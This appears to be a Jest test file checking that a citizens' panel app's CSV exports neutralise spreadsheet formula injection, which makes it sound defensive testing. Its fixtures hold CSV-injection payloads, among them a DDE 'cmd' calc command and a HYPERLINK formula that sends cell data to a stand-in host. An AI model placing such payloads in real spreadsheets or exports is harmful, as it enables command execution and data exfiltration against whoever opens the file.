/**
 * Issue 8, "Bad input", the exports side: every CSV the app writes neutralises a cell that a spreadsheet would
 * run as a formula (it starts with a quote mark), and the app reads its own exports back unchanged.
 *
 * - The writer, by property: any cell starting with = + - @ TAB or CR comes out starting with a quote mark
 *   (plain numbers and phone numbers such as -3 or +44 7700 900123 excepted: they cannot call anything), every
 *   other cell comes out exactly as it went in, and readCsv(writeCsv(rows)) gives back every cell.
 * - Through the real routes, on a database file, with formula-like names, addresses, category values, agenda
 *   titles, ideas, vote questions and options, recommendations and minority statements: the organiser's pool
 *   export, the organiser's quotas and chances exports, the public pseudonymised pool and quotas of the
 *   commitment and of each draw (final and replacement), and the public outcomes CSVs. The published draw
 *   still re-runs from the downloaded files with the CLI and picks the same panel.
 *
 * The CLI's draw writes no CSV (a summary or JSON only), so it has nothing to neutralise.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import request from 'supertest';
import { createApp } from '../../src/app';
import { run } from '../../src/cli/run';
import { ManualClock } from '../../src/clock';
import { testConfig } from '../../src/config';
import { readCsv, writeCsv } from '../../src/csv';
import { closeDb, openDb, type Db } from '../../src/db';
import { CSV_TABLES } from '../../src/outcomes/exports';
import { ballotBoxOf } from '../../src/room/ballot-box';
import { type Actor, apply, type Command, commandSchema } from '../../src/room/machine';
import { actorKey } from '../../src/room/repo';
import type { RoomState } from '../../src/room/state';
import { listMembers } from '../../src/membership/members';
import { csrfToken, logIn, seatMembers, submit } from '../helpers';

jest.setTimeout(120_000);

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Cells that start so but are plain numbers or phone numbers: they call nothing, so they stay readable as numbers. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$|^\+\d[\d ]*$/;
const neutralised = (cell: string) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell);

/** The cells of a CSV exactly as a spreadsheet sees them: no trimming, no undoing of the guard. */
const rawCells = (csv: string): string[][] => parse(csv, { relax_column_count: true, record_delimiter: '\n' }) as string[][];

/** No cell of the file would run as a formula. */
function expectInert(csv: string, file: string): void {
  const live = rawCells(csv).flat().filter(neutralised);
  expect({ file, live }).toEqual({ file, live: [] });
}

// ---------------------------------------------------------------------------------------------
// The writer, by property
// ---------------------------------------------------------------------------------------------

describe('writeCsv, for any cells', () => {
  const special = fc.constantFrom(',', '"', '""', "'", "''", '\n', '\r\n', '\r', '\t', ' ', '=', '+', '-', '@', '|', '!', '0', '9', '.', '＝', '\u00a0', '\u2028');
  const piece = fc.oneof(special, fc.string({ unit: 'grapheme', maxLength: 4 }));
  const anyText = fc.array(piece, { maxLength: 6 }).map((parts) => parts.join(''));
  /** Text, often starting like a formula or like an already-guarded one. */
  const prefixes = ['', '', '=', '+', '-', '@', '\t', '\r', "'", "''", "'=", "'+", "'-", "'@", "'\t", "'\r", "''=", '-1', '+4', '-0.5', '=cmd|', '+1+1', '@SUM('];
  const cell = fc.tuple(fc.constantFrom(...prefixes), anyText).map(([p, t]) => p + t);
  const rows = fc.array(fc.tuple(cell, cell, cell), { maxLength: 8 });

  test('every cell a spreadsheet would run as a formula comes out starting with a quote mark; no other cell is changed but ones the reader would mistake for guarded', () => {
    fc.assert(
      fc.property(rows, (table) => {
        const out = rawCells(writeCsv(['a', 'b', 'c'], table)).slice(1);
        expect(out).toHaveLength(table.length);
        table.forEach((row, i) =>
          row.forEach((original, j) => {
            const written = out[i][j];
            if (neutralised(original)) expect(written).toBe(`'${original}`);
            else if (/^'+[=+\-@\t\r\n]/.test(original)) expect(written).toBe(`'${original}`); // one more quote mark, that reading removes
            else expect(written).toBe(original);
            expect(neutralised(written)).toBe(false);
          }),
        );
      }),
      { numRuns: 500 },
    );
  });

  test('readCsv(writeCsv(rows)) gives back every cell: formula cells, guarded-looking cells and all (CR read as a line break)', () => {
    // readCsv trims each cell (spaces and tabs at the start, any white space at the end) and skips rows with
    // nothing in them; it refuses a NUL. A tab or CR at the start is a formula character, so the guard keeps it.
    const trimmed = cell.filter((c) => !/\s$/u.test(c) && !/^[ \n\f]/.test(c) && !c.includes('\u0000'));
    fc.assert(
      fc.property(fc.array(fc.tuple(trimmed, trimmed, trimmed), { maxLength: 8 }), (table) => {
        const back = readCsv(writeCsv(['a', 'b', 'c'], table)).rows.map((r) => [r.cells.a, r.cells.b, r.cells.c]);
        const expected = table.map((row) => row.map((c) => c.replace(/\r\n?/g, '\n'))).filter((row) => row.some((c) => c !== ''));
        expect(back).toEqual(expected);
      }),
      { numRuns: 500 },
    );
  });

  test('numbers, including negative ones and phone numbers written with +, are left as they are', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }).map((x) => Math.round(x * 100) / 100)), (x) => {
        expect(writeCsv(['x'], [[x]])).toBe(`x\n${String(x)}\n`);
      }),
    );
    expect(writeCsv(['phone'], [['+44 7700 900123'], ['+447700900123']])).toBe('phone\n+44 7700 900123\n+447700900123\n');
  });
});

// ---------------------------------------------------------------------------------------------
// Through the app: a panel whose people, answers and session are full of formulas
// ---------------------------------------------------------------------------------------------

/** Formula-like texts a resident, an organiser or a panellist could type. */
const NAMES = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '＝1+1 (full width: no spreadsheet runs it)'];
/** Category values an organiser can type on the categories form (which keeps "|" for the population share). */
const TAGS = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)'];

const quoteCell = (s: string) => (/[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
const csvLine = (cells: string[]) => cells.map(quoteCell).join(',');

const opened: { db: Db; dir: string }[] = [];
afterAll(() => {
  for (const { db, dir } of opened) {
    closeDb(db);
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

/** A fresh app on a database file, an organiser, and a panel made through the pages with a formula-valued category. */
async function fresh(slug: string, panelSize: number) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cp-csv-export-'));
  const db = openDb(path.join(dir, 'panel.db'));
  opened.push({ db, dir });
  const clock = new ManualClock();
  const app = createApp({ db, clock, config: testConfig(), log: () => {} });
  const organiser = await logIn(db, clock, request.agent(app.app), 'organiser');
  const created = await submit(organiser, '/admin/panels/new', '/admin/panels', {
    title: 'Formulas everywhere',
    question: 'What should happen next?',
    panelSize: String(panelSize),
    closesAt: '2027-01-31',
    quotaTolerance: '1',
    slug,
  });
  expect(created.status).toBe(303);
  const admin = created.headers.location as string;
  for (const c of [
    { key: 'tag', label: 'Tag', question: 'Your tag?', values: TAGS.join('\n') },
    { key: 'gender', label: 'Gender', question: 'Your gender?', values: 'Woman\nMan' },
  ]) {
    const res = await submit(organiser, admin, `${admin}/categories`, c);
    expect(res.status).toBe(303);
  }
  return { db, clock, ...app, organiser, admin, panelId: Number(admin.split('/').pop()), slug, anyone: () => request.agent(app.app) };
}
type Fresh = Awaited<ReturnType<typeof fresh>>;

async function upload(t: Fresh, route: 'pool' | 'quotas', csv: string) {
  const page = `${t.admin}/${route}`;
  const token = await csrfToken(t.organiser, page);
  const req = t.organiser.post(`${page}/import`).field('_csrf', token);
  if (route === 'pool') req.field('consentConfirmed', 'yes');
  const res = await req.attach('file', Buffer.from(csv), `${route}.csv`);
  expect(res.status).toBe(303);
  return res;
}

/** 16 people: every tag with two women and two men; the first two live together; names from NAMES. */
function poolCsv(): string {
  const rows = Array.from({ length: 16 }, (_, i) => [
    i < NAMES.length ? NAMES[i] : `Person ${i}`,
    `p${i}@example.org`,
    '',
    i < 2 ? '=1 Shared Street' : `${['=', '+', '-', '@'][i % 4]}${i} Road`,
    'CV1 1AA',
    // The guarded form ('+1+1) is read as the value itself, as an export re-imported would be.
    i === 5 ? `'${TAGS[i % 4]}` : TAGS[i % 4],
    Math.floor(i / 4) % 2 ? 'Man' : 'Woman',
  ]);
  return [csvLine(['name', 'email', 'phone', 'address', 'postcode', 'tag', 'gender']), ...rows.map(csvLine)].join('\n');
}

const quotasCsv = (perTag: number, perGender: number) =>
  [csvLine(['category', 'value', 'min', 'max']), ...TAGS.map((v) => csvLine(['tag', v, String(perTag), String(perTag)])), `gender,Woman,${perGender},${perGender}`, `gender,Man,${perGender},${perGender}`].join('\n');

describe('the selection files: pool and quotas, organiser and public, commitment and every draw', () => {
  let t: Fresh;
  const files: Record<string, string> = {};

  beforeAll(async () => {
    t = await fresh('formulas', 4);
    await upload(t, 'pool', poolCsv());
    await upload(t, 'quotas', quotasCsv(1, 2));
  });

  test("the organiser's pool export: formula names and addresses start with a quote mark, and re-import unchanged", async () => {
    const res = await t.organiser.get(`${t.admin}/pool.csv`);
    expect(res.status).toBe(200);
    files['organiser pool.csv'] = res.text;
    const rows = rawCells(res.text);
    const col = (name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);
    expect(col('name').slice(0, NAMES.length)).toEqual(NAMES.map((n) => (neutralised(n) ? `'${n}` : n)));
    expect(col('name')[5]).toBe('＝1+1 (full width: no spreadsheet runs it)');
    expect(col('address')).toEqual(['=1 Shared Street', '=1 Shared Street', ...Array.from({ length: 14 }, (_, k) => `${['=', '+', '-', '@'][(k + 2) % 4]}${k + 2} Road`)].map((a) => `'${a}`));
    expect(col('tag')).toEqual(Array.from({ length: 16 }, (_, i) => `'${TAGS[i % 4]}`));
    expectInert(res.text, 'organiser pool.csv');

    // Read back by the app, it is the same pool.
    const back = readCsv(res.text).rows.map((r) => [r.cells.name, r.cells.address, r.cells.tag]);
    const stored = t.db
      .prepare(
        `SELECT r.name, r.address, v.value FROM registrants r JOIN registrant_values rv ON rv.registrant_id = r.id
         JOIN category_values v ON v.id = rv.value_id JOIN categories c ON c.id = v.category_id WHERE c.key = 'tag' ORDER BY r.id`,
      )
      .all()
      .map((r) => Object.values(r as Record<string, string>));
    expect(back).toEqual(stored);
  });

  test("the organiser's quotas export", async () => {
    const res = await t.organiser.get(`${t.admin}/quotas.csv`);
    files['organiser quotas.csv'] = res.text;
    expect(rawCells(res.text).slice(1).map((r) => r[1])).toEqual(expect.arrayContaining(TAGS.map((v) => `'${v}`)));
    expectInert(res.text, 'organiser quotas.csv');
  });

  test("the commitment: the public quotas, and the auditors' pool with tickets", async () => {
    await submit(t.organiser, t.admin, `${t.admin}/registration/close`, {});
    const res = await submit(t.organiser, `${t.admin}/selection`, `${t.admin}/commitment`, { algorithm: 'leximin', randomness: 'The Lotto draw on Saturday 5 December 2026', confirm: 'yes' });
    expect(res.status).toBe(303);
    expect((await t.anyone().get(`/panels/${t.slug}/selection/pool.csv`)).status).toBe(404);
    const pool = await t.organiser.get(`${t.admin}/auditors/pool.csv`);
    const quotas = await t.anyone().get(`/panels/${t.slug}/selection/quotas.csv`);
    expect([pool.status, quotas.status]).toEqual([200, 200]);
    files['auditors pool.csv'] = pool.text;
    files['public quotas.csv'] = quotas.text;
    const rows = rawCells(pool.text);
    expect(rows[0]).toEqual(['id', 'tag', 'gender', 'household']);
    expect(rows.slice(1).map((r) => r[1]).sort()).toEqual(Array.from({ length: 16 }, (_, i) => `'${TAGS[i % 4]}`).sort());
    expect(rows.slice(1).filter((r) => r[3] === 'H1')).toHaveLength(2);
    expectInert(pool.text, 'auditors pool.csv');
    expectInert(quotas.text, 'public quotas.csv');
    expect(pool.text).not.toContain('Shared Street');
  });

  test("the final draw: the auditors re-run the published command on their files and get the tickets the public page lists", async () => {
    const res = await submit(t.organiser, `${t.admin}/selection`, `${t.admin}/commitment/numbers`, { numbers: '7 19 23 31 40 52', confirm: 'yes' });
    expect(res.status).toBe(303);
    const id = Number(/\/draws\/(\d+)$/.exec(res.headers.location)?.[1]);
    await t.runner.settled(id);
    expect(listMembers(t.db, t.panelId)).toHaveLength(4);
    files['final draw chances.csv'] = (await t.organiser.get(`${t.admin}/draws/${id}/chances.csv`)).text;

    const page = await t.anyone().get(`/panels/${t.slug}/selection`);
    const command = /<pre class="wrap-anywhere command">npx citizens-panel (draw [^<]+)<\/pre>/.exec(page.text)?.[1] ?? '';
    expect(command).toContain('--seed ');
    const shown = [...page.text.matchAll(/<li><code>(T\d{4})<\/code><\/li>/g)].map((m) => m[1]);
    expect(shown).toHaveLength(4);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cp-csv-verify-'));
    try {
      fs.writeFileSync(path.join(dir, 'pool.csv'), files['auditors pool.csv']);
      fs.writeFileSync(path.join(dir, 'quotas.csv'), files['public quotas.csv']);
      const args = command.split(' ').map((a) => (a.endsWith('.csv') ? path.join(dir, a) : a));
      const out: string[] = [];
      expect(await run([...args, '--json'], { out: (s) => out.push(s), err: () => {} })).toBe(0);
      const cli = JSON.parse(out.join('')) as { selected: string[]; counts: { value: string }[] };
      expect([...cli.selected].sort()).toEqual(shown);
      // The CLI read the values themselves, not the guarded cells.
      expect(cli.counts.map((c) => c.value)).toEqual(expect.arrayContaining(TAGS));
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test("a replacement draw's files, for the auditors only", async () => {
    const invited = await submit(t.organiser, `${t.admin}/selection`, `${t.admin}/invitations`, {});
    const token = /\/invite\/([\w-]{43})/.exec(invited.text)?.[1] ?? '';
    expect((await submit(t.anyone(), `/invite/${token}`, `/invite/${token}`, { answer: 'decline', sure: 'yes' })).status).toBe(200);
    const res = await submit(t.organiser, `${t.admin}/selection`, `${t.admin}/replacements`, {});
    expect(res.status).toBe(303);
    const id = Number(/\/draws\/(\d+)$/.exec(res.headers.location)?.[1]);
    await t.runner.settled(id);
    for (const file of ['pool.csv', 'quotas.csv']) {
      expect((await t.anyone().get(`/panels/${t.slug}/selection/draws/${id}/${file}`)).status).toBe(404);
      const got = await t.organiser.get(`${t.admin}/auditors/draws/${id}/${file}`);
      expect(got.status).toBe(200);
      files[`replacement draw ${file}`] = got.text;
    }
    expect(rawCells(files['replacement draw quotas.csv']).slice(1).map((r) => r[1])).toEqual(expect.arrayContaining(TAGS.map((v) => `'${v}`)));
  });

  test('no file has a live formula cell', () => {
    expect(Object.keys(files).sort()).toEqual(
      ['auditors pool.csv', 'final draw chances.csv', 'organiser pool.csv', 'organiser quotas.csv', 'public quotas.csv', 'replacement draw pool.csv', 'replacement draw quotas.csv'].sort(),
    );
    for (const [name, text] of Object.entries(files)) expectInert(text, name);
  });
});

// ---------------------------------------------------------------------------------------------
// The outcomes CSVs: a session whose agenda, ideas, votes and recommendations are formulas
// ---------------------------------------------------------------------------------------------

describe('the public outcomes CSVs', () => {
  const AGENDA = {
    title: '=HYPERLINK("http://evil.example","agenda")',
    rounds: [
      { type: 'ideas' as const, title: '@SUM(A1) ideas', minutes: 30 },
      { type: 'vote' as const, title: '-2+3 votes', minutes: 30 },
    ],
  };
  const IDEA = "=cmd|' /C calc'!A0";
  const QUESTION = '@SUM(A1): which idea first?';
  const WORDING = "=cmd|' /C calc'!A0 and fund the arts";
  const MINORITY = '-2+3 is not enough';
  let t: Fresh;
  let sessionId: number;
  const csv: Record<string, string> = {};

  beforeAll(async () => {
    t = await fresh('formula-outcomes', 4);
    await upload(t, 'pool', poolCsv());
    const members = t.db.prepare('SELECT public_id FROM registrants ORDER BY id LIMIT 4').pluck().all() as string[];
    seatMembers(t.db, t.panelId, members, t.clock.now());
    const start = t.clock.now();
    sessionId = t.room.createSession(t.panelId, AGENDA, members, null, start);

    // The room's own rules and records, as the socket handlers use them (see src/demo/summary.ts).
    let state = t.room.state(sessionId) as RoomState;
    const env = { answers: t.room.answers(sessionId), box: ballotBoxOf(t.db, sessionId), summaryRevision: () => t.room.summaryRevision(sessionId) };
    const host: Actor = { role: 'facilitator', who: 'link:facil' };
    const panellist = (i: number): Actor => ({ role: 'panellist', member: members[i] });
    let minute = 0;
    const step = (actor: Actor, command: Record<string, unknown>) => {
      const now = start + ++minute * 60_000;
      const parsed: Command = commandSchema.parse(command);
      state = apply(state, actor, parsed, now, env);
      t.room.record(sessionId, state, actorKey(actor), `csv-export-${minute}`, parsed, now);
    };
    const everyoneVotes = (vote: number, ballot: Record<string, unknown>) =>
      members.forEach((_m, i) => step(panellist(i), { type: 'vote:cast', vote, ballot }));
    const majority = { method: 'threshold', threshold: { rule: 'majority', base: 'decisive' }, quorum: 0 };

    for (const m of members) t.room.attend(sessionId, m, start);
    step(host, { type: 'round:open', round: 0 });
    step(panellist(0), { type: 'idea:post', text: IDEA });
    step(panellist(1), { type: 'idea:post', text: '+1+1 more buses' });
    step(host, { type: 'round:open', round: 1 });
    step(host, { type: 'vote:open', question: QUESTION, settings: { method: 'approval', quorum: 0 }, options: [IDEA, '+1+1 more buses'] });
    everyoneVotes(1, { kind: 'approval', dots: [1, 0] });
    step(host, { type: 'vote:close', vote: 1 });
    step(host, { type: 'rec:draft', text: WORDING });
    step(host, { type: 'vote:open', subject: { rec: 1 }, settings: majority });
    everyoneVotes(2, { kind: 'threshold', choice: 'agree' });
    step(host, { type: 'vote:close', vote: 2 });
    step(panellist(2), { type: 'rec:minority', rec: 1, text: MINORITY });
    t.summaries.save(sessionId, '=cmd narrative, which is markdown, not CSV.', [], null);
    step(host, { type: 'vote:open', summary: 'latest', settings: majority });
    everyoneVotes(3, { kind: 'threshold', choice: 'agree' });
    step(host, { type: 'vote:close', vote: 3 });
    for (const m of members) t.room.attend(sessionId, m, start + (minute + 1) * 60_000);
    t.summaries.publish(sessionId, '', null);

    for (const table of ['agenda', 'attendance', 'airtime', 'votes', 'recommendations']) {
      const res = await t.anyone().get(`/outcomes/${t.slug}/sessions/${sessionId}/v/1/${table}.csv`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      csv[table] = res.text;
    }
  });

  const column = (table: string, name: string) => {
    const rows = rawCells(csv[table]);
    return rows.slice(1).map((r) => r[rows[0].indexOf(name)]);
  };

  test('agenda titles', () => {
    expect(column('agenda', 'title')).toEqual(["'@SUM(A1) ideas", "'-2+3 votes"]);
  });

  test('category values in attendance and airtime', () => {
    // This session's 4 members make no group of 5, so the published files carry no group at all (small-groups.ts)...
    for (const table of ['attendance', 'airtime']) expect(column(table, 'group')).toEqual([]);
    // ...and in a record with groups big enough to publish, the values are inert.
    const record = t.summaries.build(sessionId);
    const groups = TAGS.map((v) => ({ category: 'tag', categoryLabel: v, value: v, label: v, members: 5, panelShare: 0.25, figure: 5 }));
    const big = { ...record, attendance: { members: 20, attended: 20, groups }, airtime: { ...record.airtime, groups } };
    for (const table of ['attendance', 'airtime']) {
      const text = CSV_TABLES[table](big);
      const rows = rawCells(text);
      expect(rows.slice(1).map((r) => r[rows[0].indexOf('group')])).toEqual(TAGS.map((v) => `'${v}`));
      expectInert(text, `${table}.csv`);
    }
  });

  test('vote questions and winning options', () => {
    const votes = rawCells(csv.votes);
    const first = votes[1];
    expect(first[votes[0].indexOf('question')]).toBe(`'${QUESTION}`);
    expect(first[votes[0].indexOf('winners')]).toBe(`'${IDEA}`);
  });

  test('recommendation wording', () => {
    expect(column('recommendations', 'wording')).toEqual([`'${WORDING}`]);
    expect(column('recommendations', 'status')).toEqual(['adopted']);
  });

  test('no outcomes CSV has a live formula cell, and each reads back as the record says', async () => {
    for (const [table, text] of Object.entries(csv)) expectInert(text, `${table}.csv`);
    const json = (await t.anyone().get(`/outcomes/${t.slug}/sessions/${sessionId}/v/1/summary.json`)).body as {
      record: { agenda: { title: string }[]; recommendations: { text: string }[]; votes: { question: string }[] };
    };
    expect(readCsv(csv.agenda).rows.map((r) => r.cells.title)).toEqual(json.record.agenda.map((a) => a.title));
    expect(readCsv(csv.recommendations).rows.map((r) => r.cells.wording)).toEqual(json.record.recommendations.map((r) => r.text));
    expect(readCsv(csv.votes).rows.map((r) => r.cells.question)).toEqual(json.record.votes.map((v) => v.question));
  });
});
